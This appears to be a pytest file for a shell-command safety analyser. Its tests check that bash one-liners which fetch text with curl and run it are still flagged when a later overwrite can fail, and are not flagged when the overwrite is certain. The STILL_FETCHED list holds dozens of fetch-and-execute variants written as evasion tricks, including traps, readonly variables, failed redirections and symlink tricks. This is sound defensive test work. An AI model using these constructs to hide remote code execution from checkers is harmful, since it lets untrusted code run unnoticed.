"""A change that may not happen joins the old state and the new: what was there before still counts."""

from __future__ import annotations

import pytest

from tests.flow.evaluations import outcomes

F = "curl -s https://example.com/p"

STILL_FETCHED = [
    f"x=$({F}); read x </nonexistent; $x",
    f"x=$({F}); {{ x=true; }} </nonexistent; $x",
    f"x=$({F}); f() {{ x=true; }}; f </nonexistent; $x",
    f"x=$({F}); export x=true </nonexistent; $x",
    f"x=$({F}); unset x </nonexistent; $x",
    f"x=$({F}); unset -n x; $x",
    f"exec true </nonexistent; x=$({F}); $x",
    f"{F} > f; mv none f; sh f",
    f"{F} > f; cp -n g f; sh f",
    # an option that the built-in or the program does not know
    f"x=$({F}); declare -Z x=true; $x",
    f"x=$({F}); read -Z x <<< true; $x",
    f"x=$({F}); unset -Z x; $x",
    f"set -- $({F}); set -o none true; $1",
    f"{F} > f; tee f -Z < /dev/null; sh f",
    # a name that cannot be changed
    f'readonly x="$({F})"; x=(true); $x',
    f'readonly x="$({F})"; f() {{ local x=true; $x; }}; f',
    # nothing is read
    f"x=$({F}); exec 3<none; read x <&3; $x",
    f"x=$({F}); exec 0<&-; read x; $x",
    f"x=$({F}); read -u 9 x; $x",
    f"x=$({F}); read -t 0 x; $x",
    f"x=$({F}); mapfile -u 9 x; $x",
    # a file that may not be written, or is kept
    f"{F} > f; chmod 444 f; echo true > f; sh f",
    f"{F} > f; chmod a-w f; echo true > f; sh f",
    f"umask 222; {F} > f; echo true > f; sh f",
    f"{F} > f; echo true > g; cp -i g f; sh f",
    f"{F} > f; echo true > g; ln -s g f; sh f",
    f"{F} > f; ln -f f; sh f",
    f"{F} > f; ln -f none f; sh f",
    # a source that is not there
    f"{F} > f; echo true > g; rm g; cp g f; sh f",
    f"{F} > f; echo true > g; mv g h; cp g f; sh f",
    f"{F} > f; echo true > none/g; cp none/g f; sh f",
    f"{F} > f; if [ -f none ]; then echo true > g; fi; cp g f; sh f",
    f"{F} > f; sort -o f none; sh f",
    f"{F} > f; rsync none f; sh f",
    # a command that does not run
    f"{F} > f; (exit; echo true > f); sh f",
    f"{F} > f; g() {{ return; echo true > f; }}; g; sh f",
    f"{F} > f; for i in; do echo true > f; done; sh f",
    f"{F} > f; xargs -r sh -c 'echo true > f' < /dev/null; sh f",
    f"{F} > f; find none -exec sh -c 'echo true > f' \\;; sh f",
    f"{F} > f; timeout 0.001 sh -c 'echo true > f'; sh f",
    f"{F} > f; alias e='echo true > f'; sh f",
    f"{F} > f; eval 'echo true > f; )'; sh f",
    # a name that goes on when another is gone
    f"{F} > f; ln f g; rm f; echo true > f; sh g",
    f"ln -s f g; {F} > f; rm g; {F} > g; echo true > f; sh g",
    f"{F} > h; ln -s f g; mv h g; echo true > f; sh g",
    # a trap that comes between
    f"trap '{F} > g' USR1; kill -USR1 $$; sh g",
    f"trap '{F} > g' DEBUG; echo true > g; sh g",
    f"trap 'x=$({F})' DEBUG; x=true; $x",
    f"trap 'set -- $({F})' USR1; set -- true; kill -USR1 $$; $1",
    f"trap 'f() {{ {F} | sh; }}' USR1; kill -USR1 $$; f",
    f"f() {{ {F} > g; }}; trap f USR1; kill -USR1 $$; sh g",
    # either of two lists of parameters
    f"mkdir k && set $({F}); $1",
]

HARMLESS = [
    f"x=$({F}); x=true; $x",
    f"x=$({F}); {{ x=true; }}; $x",
    f"x=$({F}); unset x; $x ls",
    f"{F} > f; echo true > f; sh f",
    f"x=$({F}); read y </nonexistent; echo $y",
    f"x=$({F}); declare -x x=true; $x",
    f"x=$({F}); read -r x <<< true; $x",
    f"set -- $({F}); set -o errexit true; $1",
    f"x=$({F}); exec 3<<< true; read x <&3; $x",
    f"x=$({F}); echo true > g; read x < g; $x",
    f"{F} > f; chmod 600 f; echo true > f; sh f",
    f"{F} > f; chmod +x f; echo true > f; ./f",
    f"umask 077; {F} > f; echo true > f; sh f",
    f"{F} > f; echo true > g; cp g f; sh f",
    f"{F} > f; echo true > g; mv g f; sh f",
    f"{F} > f; echo true > g; ln -sf g f; sh f",
    f"{F} > f; echo true | tee f; sh f",
    f"{F} > f; f() {{ echo true > f; return; }}; f; sh f",
    f"{F} > f; < f > f; sh f",
    f"{F} > f; > f sh f",
    "trap 'echo ls > g' USR1; kill -USR1 $$; sh g",
    f"trap 'rm -f f' EXIT; {F} > f; cat f",
    f"x=$({F}); alias o=$x",
]


@pytest.mark.parametrize("command", STILL_FETCHED)
def test_the_old_state_still_counts(command: str) -> None:
    """Where the change fails, the fetched text is what runs."""
    assert "fetched" in outcomes(command, "bash")


@pytest.mark.parametrize("command", HARMLESS)
def test_a_certain_change_replaces(command: str) -> None:
    """Where nothing can fail, what was there before is gone."""
    assert "fetched" not in outcomes(command, "bash")
